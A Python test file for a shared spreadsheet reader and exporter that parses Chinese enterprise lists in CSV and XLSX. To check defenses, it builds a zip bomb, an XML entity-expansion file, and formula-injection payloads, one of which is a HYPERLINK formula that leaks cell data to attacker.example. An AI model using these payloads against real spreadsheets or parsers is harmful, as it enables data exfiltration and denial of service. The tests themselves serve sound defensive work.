"""The shared reader with files shaped like the provinces' (made here): GB18030 bytes with and
without a declared charset, UTF-16 with BOM and tabs, UTF-8 with BOM and Excel CRLF/quoting,
semicolons, a title row above the header, .xlsx written by openpyxl (numbers, dates, a
mangled 18-digit code), and the hostile ones (zip bomb, XML entities, .xls, binary)."""

from __future__ import annotations

import codecs
import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from iims_common.errors import UnsupportedMediaType, ValidationFailed
from iims_common.exports import Sheet, csv_bytes, neutralize, unneutralize, xlsx
from iims_common.tabular import (
    XLSX_MEDIA_TYPE,
    Choices,
    Column,
    decode,
    read_table,
    refused_rows_xlsx,
    sniff_delimiter,
)
from iims_common.testing import assert_no_formulas, assert_printable

COLUMNS = [
    Column("uscc", ("统一社会信用代码", "信用代码"), required=True),
    Column("name", ("企业名称", "名称"), required=True),
    Column("size", ("企业规模", "规模")),
]
ROWS = [
    ["91330100MA2AAAAAA1", "测试（杭州）智能装备有限公司", "中型"],
    ["91330100MA2BBBBBB2", '浙江"恒远",纺织; 股份有限公司', "小型"],
]


def csv_text(rows: list[list[str]], delimiter: str = ",") -> str:
    buf = io.StringIO(newline="")
    import csv

    writer = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(["统一社会信用代码", "企业名称", "企业规模"])
    writer.writerows(rows)
    return buf.getvalue()


def records(table: object) -> list[tuple[int, dict[str, str | None]]]:
    return list(table.records)  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    ("raw", "content_type", "encoding", "delimiter"),
    [
        (csv_text(ROWS).encode("gb18030"), "text/csv", "gb18030", ","),
        (csv_text(ROWS).encode("gb18030"), "text/csv; charset=GBK", "gb18030", ","),
        (csv_text(ROWS).encode("gb18030"), "text/csv; charset=gb18030", "gb18030", ","),
        (codecs.BOM_UTF8 + csv_text(ROWS).encode(), "text/csv", "utf-8-sig", ","),
        (csv_text(ROWS).encode(), "application/vnd.ms-excel", "utf-8", ","),
        (csv_text(ROWS, ";").encode(), "text/csv", "utf-8", ";"),
        (csv_text(ROWS, "\t").encode("utf-16"), "text/plain", "utf-16", "\t"),
        (csv_text(ROWS, "\t").encode("utf-16"), "application/octet-stream", "utf-16", "\t"),
    ],
)
def test_csv_shapes_read_the_same(
    raw: bytes, content_type: str, encoding: str, delimiter: str
) -> None:
    table = read_table(raw, content_type, COLUMNS, max_rows=10)
    assert (table.format, table.encoding, table.delimiter) == ("csv", encoding, delimiter)
    assert records(table) == [
        (2, dict(zip(("uscc", "name", "size"), ROWS[0], strict=True))),
        (3, dict(zip(("uscc", "name", "size"), ROWS[1], strict=True))),
    ]


def test_gb18030_without_declared_charset_is_detected_on_a_realistic_file() -> None:
    rows = [[f"9133010{i:011d}", f"浙江省第{i}智能装备制造有限公司", "中型"] for i in range(300)]
    raw = csv_text(rows).encode("gb18030")
    table = read_table(raw, "text/csv", COLUMNS, max_rows=1000)
    assert table.encoding == "gb18030" and len(table.records) == 300
    assert table.records[-1][1]["name"] == "浙江省第299智能装备制造有限公司"


def test_title_row_excel_sep_line_blank_rows_and_multiline_cells_keep_file_lines() -> None:
    text = (
        "sep=;\r\n"
        "2014年浙江省贯标试点推荐企业汇总表;;\r\n"
        ";;\r\n"
        "统一社会信用代码*;企业名称（必填）;规模\r\n"
        '91330100MA2AAAAAA1;"第一行\r\n第二行";中型\r\n'
        ";;\r\n"
        "91330100MA2BBBBBB2;乙公司;\r\n"
    )
    table = read_table(text.encode("gb18030"), "text/csv", COLUMNS, max_rows=10)
    assert table.header_line == 4 and table.delimiter == ";"
    assert [line for line, _ in table.records] == [5, 8]
    assert table.records[0][1]["name"] == "第一行\r\n第二行"
    assert table.records[1][1]["size"] is None


def test_headers_in_english_and_full_width_match_and_unknown_columns_are_listed() -> None:
    raw = "ＵＳＣＣ,Name ,备注\r\n91330100MA2AAAAAA1,甲,x\r\n".encode()
    table = read_table(raw, "text/csv", COLUMNS, max_rows=10)
    assert table.columns == {"uscc": "ＵＳＣＣ", "name": "Name"} and table.ignored == ["备注"]


def test_missing_header_says_what_is_missing_and_the_separator() -> None:
    raw = "统一社会信用代码|企业名称\r\n1|2\r\n".encode()
    with pytest.raises(ValidationFailed) as e:
        read_table(raw, "text/csv", COLUMNS, max_rows=10)
    assert "必填列" in str(e.value.detail) and "企业名称" in str(e.value.detail)
    assert {err.field for err in e.value.errors} == {"header"}
    raw = "统一社会信用代码;企业名称,x\r\n".encode()  # mixed separators
    with pytest.raises(ValidationFailed) as e:
        read_table(raw, "text/csv", [*COLUMNS, Column("x2", ("省份",), True)], max_rows=10)
    assert "分隔符" in str(e.value.detail)


def test_undecodable_file_is_a_chinese_422_naming_encodings_and_how_to_save() -> None:
    for raw, content_type in (
        (bytes(range(256)) * 40, "text/csv"),
        ("名称\r\n甲".encode("gb18030"), "text/csv; charset=utf-8"),
        ("名称".encode(), "text/csv; charset=klingon"),
    ):
        with pytest.raises(ValidationFailed) as e:
            decode(raw, content_type.partition("charset=")[2] or None)
        assert "GB18030" in str(e.value.detail) and "UTF-16" in str(e.value.detail)
        assert "另存为" in str(e.value.detail)


def test_row_limit_is_enforced() -> None:
    raw = csv_text([ROWS[0]] * 11).encode()
    with pytest.raises(ValidationFailed) as e:
        read_table(raw, "text/csv", COLUMNS, max_rows=10)
    assert "10" in str(e.value.detail)


def _workbook(rows: list[list[object]]) -> bytes:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["各省推荐企业名单"])
    ws.append(["统一社会信用代码", "企业名称", "企业规模", "推荐日期"])
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_xlsx_written_by_openpyxl_reads_as_text() -> None:
    raw = _workbook(
        [
            ["91330100MA2AAAAAA1", "甲公司", "中型", dt.datetime(2014, 5, 30)],
            [913301001234567890, "数字格式公司", "小型", dt.date(2014, 6, 1)],
            [9.13302e17, "科学计数法公司", 3, None],
            [None, None, None, None],
            ["91330100MA2BBBBBB2", "乙公司", None, "2014-06-02"],
        ]
    )
    table = read_table(raw, XLSX_MEDIA_TYPE, COLUMNS, max_rows=10)
    assert table.format == "xlsx" and table.header_line == 2
    got = {line: r for line, r in table.records}
    assert sorted(got) == [3, 4, 5, 7]
    assert got[3] == {"uscc": "91330100MA2AAAAAA1", "name": "甲公司", "size": "中型"}
    assert got[4]["uscc"] == "9.13301E+17"  # an int this long was typed as a number: lost
    assert got[5]["uscc"] == "9.13302E+17" and got[5]["size"] == "3"
    assert table.ignored == ["推荐日期"]
    assert read_table(raw, "application/octet-stream", COLUMNS, max_rows=10).format == "xlsx"


def _zip(parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return out.getvalue()


def test_hostile_xlsx_files_are_refused_before_parsing() -> None:
    import openpyxl

    assert openpyxl.DEFUSEDXML is True  # openpyxl parses through defusedxml, too
    genuine = _workbook([["91330100MA2AAAAAA1", "甲", "中型", None]])
    with zipfile.ZipFile(io.BytesIO(genuine)) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    bomb = _zip({**parts, "xl/media/bomb.bin": b"\0" * (8 << 20)})
    entities = _zip(
        {
            **parts,
            "xl/sharedStrings.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">'
            b'<!ENTITY b "&a;&a;&a;">]><sst>&b;</sst>',
        }
    )
    for raw, words in (
        (bomb, "压缩"),
        (entities, "DTD"),
        (b"PK\x03\x04garbage", "zip"),
        (_zip({"a.txt": b"x"}), "workbook.xml"),
    ):
        with pytest.raises(ValidationFailed) as e:
            read_table(raw, XLSX_MEDIA_TYPE, COLUMNS, max_rows=10, max_uncompressed=32 << 20)
        assert words in str(e.value.detail), str(e.value.detail)
    with pytest.raises(ValidationFailed):  # the total uncompressed size, too
        read_table(genuine, XLSX_MEDIA_TYPE, COLUMNS, max_rows=10, max_uncompressed=100)
    with pytest.raises(UnsupportedMediaType) as u:
        read_table(
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "text/csv", COLUMNS, max_rows=1
        )
    assert ".xlsx" in str(u.value.detail)
    with pytest.raises(UnsupportedMediaType):
        read_table(genuine, "text/csv", COLUMNS, max_rows=10)
    with pytest.raises(UnsupportedMediaType):
        read_table(b"{}", "application/pdf", COLUMNS, max_rows=10)


def test_choices_accept_codes_and_labels_folded() -> None:
    sizes = Choices({"large": ["大型", "大型企业"], "medium": ["中型"]})
    assert [sizes.parse(v) for v in ("大型", " LARGE ", "中型", "ｍｅｄｉｕｍ", "巨型")] == [
        "large",
        "large",
        "medium",
        "medium",
        None,
    ]
    assert sizes.coerce("巨型") == "巨型" and sizes.coerce(None) is None


def test_sniffing_prefers_the_separator_that_splits_consistently() -> None:
    assert sniff_delimiter("a;b;c\n1;2,5;3\n") == ";"
    assert sniff_delimiter("a\tb\n1\t2\n") == "\t"
    assert sniff_delimiter("only\n") == ","


# --- exports: never a formula, printable --------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&B2,"查看详情")',
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
]


def test_exports_write_text_never_formulas_and_print_setup() -> None:
    raw = xlsx(Sheet("报表", ["企业名称", "数值"], [[v, 1] for v in HOSTILE]))
    assert_no_formulas(raw)
    assert_printable(raw)
    values = [c.value for c in load_workbook(io.BytesIO(raw)).active["A"][1:]]  # type: ignore[index]
    assert values == ["'" + v.replace("\r", "\n") for v in HOSTILE]  # XML reads CR as LF
    text = csv_bytes(["企业名称"], [[v] for v in HOSTILE]).decode("utf-8-sig")
    import csv

    fields = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert fields == ["'" + v for v in HOSTILE]
    assert neutralize("杭州") == "杭州" and neutralize("-") == "'-"


def test_what_an_export_neutralized_reads_back_as_it_was() -> None:
    """The refused-rows .xlsx (and any export) is meant to be fixed and imported again: the
    reader drops the `'` the export put before a formula trigger, nothing else."""
    values = [v for v in HOSTILE if not v[0].isspace()] + ["'quoted", "it's", "'"]
    columns = [Column("name", ("企业名称",), required=True)]
    for raw, content_type in (
        (xlsx(Sheet("导出", ["企业名称"], [[v] for v in values])), XLSX_MEDIA_TYPE),
        (csv_bytes(["企业名称"], [[v] for v in values]), "text/csv"),
    ):
        table = read_table(raw, content_type, columns, max_rows=100)
        assert [r["name"] for _line, r in records(table)] == values, content_type
    assert unneutralize("'=1") == "=1" and unneutralize("'杭州") == "'杭州"


def test_refused_rows_download_keeps_line_numbers_and_reasons() -> None:
    raw = csv_text([ROWS[0], ["=1+1", "坏", "巨型"]]).encode("gb18030")
    table = read_table(raw, "text/csv", COLUMNS, max_rows=10)
    out = refused_rows_xlsx(table, {3: "企业规模：巨型 不是 大型/中型/小型/微型"})
    assert_no_formulas(out)
    assert_printable(out)
    ws = load_workbook(io.BytesIO(out)).active
    assert ws is not None
    rows = [[c.value for c in r] for r in ws.iter_rows()]
    assert rows[0] == ["原文件行号", "统一社会信用代码", "企业名称", "企业规模", "拒绝原因"]
    assert rows[1] == [3, "'=1+1", "坏", "巨型", "企业规模：巨型 不是 大型/中型/小型/微型"]


def test_utf16_without_bom_is_detected() -> None:
    rows = [[f"91330100MA2AAA{i:04d}", f"浙江测试{i}有限公司", "中型"] for i in range(50)]
    text = csv_text(rows, "\t")
    for encoding in ("utf-16-le", "utf-16-be"):
        assert decode(text.encode(encoding)) == (text, encoding)


ROOT = Path(__file__).resolve().parents[3]
_SPREADSHEET_WRITERS = re.compile(
    r"\bcsv\.(writer|DictWriter)\b|\bWorkbook\(|\bxlsxwriter\b|^\s*(from|import) openpyxl\b"
)
# The one writer (exports), the one reader (tabular, openpyxl's load_workbook only) and the
# tests' helpers (testing.py: they open exports, and write the files organizations send in —
# input to the imports, never something the platform produces).
_ALLOWED = {"exports.py", "tabular.py", "testing.py"}


def test_every_spreadsheet_is_written_by_iims_common_exports() -> None:
    """No service writes a CSV or a workbook on its own: every .xlsx/.csv the platform
    produces goes through `iims_common.exports` (text cells never formulas, print setup), so
    a new export cannot forget either. The reader may load workbooks, never write them."""
    sources = [
        p
        for base in ("libs", "services", "scripts")
        for p in (ROOT / base).rglob("*.py")
        if "tests" not in p.parts and ".venv" not in p.parts
    ]
    assert sources, "no sources found"
    offenders = []
    for path in sources:
        common = path.parent.name == "iims_common"
        for no, line in enumerate(path.read_text("utf-8").splitlines(), start=1):
            if not _SPREADSHEET_WRITERS.search(line):
                continue
            if common and path.name in _ALLOWED and "Workbook(" not in line:
                continue
            if common and path.name in ("exports.py", "testing.py"):
                continue
            offenders.append(f"{path.relative_to(ROOT)}:{no}: {line.strip()}")
    assert not offenders, "write spreadsheets with iims_common.exports:\n" + "\n".join(offenders)
